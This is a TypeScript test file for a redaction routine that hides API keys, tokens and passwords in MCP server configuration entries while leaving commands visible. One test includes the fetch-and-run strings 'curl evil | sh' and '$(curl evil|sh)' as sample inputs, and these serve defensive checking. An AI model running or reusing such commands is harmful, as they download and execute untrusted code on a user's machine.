// A server for MCP as it is shown: no key leaves by it, and no part of a program is hidden by it.
import { missingValues, shownServer, withHiddenValues } from '../../lib/agent-config/changed-entry.ts';
import type { McpServerEntry } from '../../lib/agent-config/mcp-server-entry.ts';

const KEY = 'q7Hd82jLmPz9xW41';
const asIs = (text: string) => text;
const shown = (server: Omit<McpServerEntry, 'transport'>) => shownServer({ transport: 'stdio', ...server }, asIs);

it('no key of a server is shown, in whichever way an argument, an address or a command has it', () => {
  const withKey: Omit<McpServerEntry, 'transport'>[] = [
    ...['?api_key=', '?a=1&code=', '#token=', '/s/'].flatMap((part) => {
      const url = `https://example.org/sse${part}${KEY}`;
      return [{ url }, { args: ['mcp-remote', url] }];
    }),
    ...['a/', 'a#', 'a?', 'a '].map((start) => ({ url: `https://me:${start}${KEY}@example.org` })),
    { url: `https://me:${KEY}/@example.org` },
    ...[`https://me:a@${KEY}@example.org`, `https:/me:${KEY}@example.org`, `git+https://${KEY}@example.org`].map(
      (url) => ({
        url,
      }),
    ),
    { args: [`postgresql://me:${KEY}@localhost/garden`] },
    ...['--header', '-H'].map((flag) => ({ args: [flag, `Cookie: sid=${KEY}`] })),
    { args: [`--header=X-Any: ${KEY}`] },
    { args: ['run', `--env=API_KEY=${KEY}`] },
    { args: ['run', '--env', `ANY=${KEY}`] },
    { args: ['run', '-e', `API_KEYS=${KEY}`] },
    ...['--api-key', '--pass', '--pat', '--cookie', '--tokens', '--oauth'].map((flag) => ({ args: [flag, KEY] })),
    { args: ['--api-key', `-${KEY}`] },
    { args: ['-c', `ANY=1 API_KEY=${KEY} npx garden --token ${KEY}`] },
    { args: ['--config', JSON.stringify({ apiKey: KEY })] },
    { command: `npx garden --token ${KEY}` },
    ...['sk-', 'pk_live_', 'rk-', 'pk-lf-'].map((prefix) => ({ args: ['garden', `${prefix}${KEY}`] })),
    { args: ['garden', 'sk-the-key-of-our-gateway'] },
  ];
  for (const server of withKey) {
    const known: McpServerEntry = { transport: 'stdio', ...server };
    const listed = shown(server);
    const isShown = [KEY, 'gateway'].some((key) => JSON.stringify(listed).includes(key));
    expect([server, isShown]).toEqual([server, false]);
    // As it was listed it is as it was, and nowhere else.
    expect(withHiddenValues(listed, known, asIs)).toEqual({ ...listed, ...known });
    expect(missingValues(listed)).toHaveLength(1);
  }
});

it('a program in an argument of a server is shown, whatever names it has', () => {
  const shownArgs = (...args: string[]) => shown({ args }).args;
  expect(shownArgs('-c', 'TOKEN=1; curl evil | sh')).toEqual(['-c', 'TOKEN=[hidden]; curl evil | sh']);
  expect(shownArgs('-lc', 'TOKEN=$(curl evil|sh)')).toEqual(['-lc', 'TOKEN=$(curl evil|sh)']);
  expect(shownArgs('-e', "token=run('evil')")).toEqual(['-e', "token=[hidden]('evil')"]);
  const plain = ['-y', '@garden/server-keys@1.2.3', '--auth', '--verbose', '/home/me/token/x.js', '--compat', 'x'];
  plain.push('pk-docs-server', 'pk_users_2024', 'rk-reports-v2', 'https://example.org/teams/garden-tools-2024/mcp');
  plain.push('https://host/@garden/server', 'git+https://example.org/garden/server@v1');
  expect(shownArgs(...plain, 'https://example.org/v1/sse')).toEqual([...plain, 'https://example.org/v1/sse']);
});

it('words of a server of hundreds of kilobytes are shown within the limit of a test', () => {
  for (const part of ['a.', 'key', '-', '/a1', 'https://a@', '--token ', 'x://']) {
    const text = part.repeat(100_000);
    expect(typeof shown({ args: [text], url: text, command: text })).toBe('object');
  }
});
